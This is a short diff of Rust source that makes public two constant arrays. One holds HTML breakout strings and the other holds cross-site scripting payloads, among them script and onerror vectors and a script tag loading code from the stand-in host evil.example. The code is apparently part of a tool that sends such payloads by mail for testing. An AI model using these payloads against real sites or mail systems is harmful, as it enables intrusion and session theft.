@@ -19,7 +19,7 @@ const ITEMS_A_MAIL: usize = 20;
 const MAILS_A_SERVER: usize = 25;
 
 /// What closes the place a text stands in.
-const BREAKOUTS: [&str; 12] = [
+pub const BREAKOUTS: [&str; 12] = [
     "",
     "\">",
     "'>",
@@ -35,7 +35,7 @@ const BREAKOUTS: [&str; 12] = [
 ];
 
 /// What runs, loads or leads somewhere once it has got out.
-const VECTORS: [&str; 26] = [
+pub const VECTORS: [&str; 26] = [
     "<script>alert(1)</script>",
     "<ScRiPt src=//evil.example/x.js></sCrIpT>",
     "<img src=x onerror=alert(1)>",
